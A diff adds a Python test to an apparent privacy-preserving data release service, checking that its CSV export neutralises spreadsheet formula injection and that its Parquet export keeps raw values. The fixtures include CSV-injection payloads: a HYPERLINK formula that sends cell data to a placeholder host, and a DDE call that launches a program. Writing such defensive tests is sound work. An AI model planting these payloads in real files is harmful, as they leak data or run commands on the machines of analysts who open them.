@@ -950,3 +950,60 @@ def test_a_compressed_measure_publishes_progress_while_it_draws_phi(
     assert all(a <= b for a, b in itertools.pairwise(seen)), seen
     assert all(a < b for a, b in itertools.pairwise(beyond))
     assert max(seen) == stages.MEASURED_PROGRESS
+
+
+def test_sample_csv_quotes_text_cells_a_spreadsheet_would_read_as_formulas(
+    client: TestClient, curator: Caller
+) -> None:
+    """A randomized_response release's CSV carries its public column's values as uploaded,
+    which no declaration rule restricts: a data subject's "=HYPERLINK(...)" or DDE call
+    (CSV injection) opened live in the analyst's spreadsheet. Text cells starting with =,
+    +, -, @, tab or CR are prefixed with a single quote (OWASP), unless they are a plain
+    number; numbers are never touched (a negative midpoint stays a number). The Parquet
+    file keeps every value as uploaded."""
+    import csv
+
+    hostile = [
+        '=HYPERLINK("http://example.invalid/?leak="&A2,"open")',
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(A1:A9)",
+        "+1+2",
+        "-1",
+        "+2.5",
+        "plain",
+    ]
+    text = io.StringIO()
+    writer = csv.writer(text, lineterminator="\n")
+    writer.writerow(["temp", "note"])
+    for i in range(40):
+        writer.writerow([f"{-50 + i:.1f}", hostile[i % len(hostile)]])
+    schema = {
+        "name": "notes",
+        "columns": [
+            {"name": "temp", "kind": "continuous", "lower": -50, "upper": -10},
+            {"name": "note", "kind": "public"},
+        ],
+        "budget": {"epsilon": 10, "delta": 1e-6},
+    }
+    uploaded = upload(client, curator, text.getvalue().encode(), schema)
+    assert uploaded.status_code == 201, uploaded.text
+    body = {"mechanism": "randomized_response", "epsilon": 2.0, "columns": ["temp", "note"]}
+    release_id = request_release(client, curator, uploaded.json()["id"], body).json()["id"]
+    run_all(client, release_id)
+
+    def download(name: str) -> bytes:
+        response = client.get(
+            f"/v1/releases/{release_id}/artifacts/{name}", headers=curator.headers
+        )
+        assert response.status_code == 200, response.text
+        return response.content
+
+    rows = list(csv.reader(io.StringIO(download("sample.csv").decode())))
+    assert rows[0] == ["temp", "note"]
+    notes = {row[1] for row in rows[1:]}
+    escaped = {"'" + value for value in hostile[:4]}
+    assert notes == escaped | {"-1", "+2.5", "plain"}
+    temps = [row[0] for row in rows[1:]]
+    assert all(float(t) < 0 and not t.startswith("'") for t in temps)
+    table = pq.read_table(io.BytesIO(download("sample.parquet")))
+    assert set(table.column("note").to_pylist()) == set(hostile)
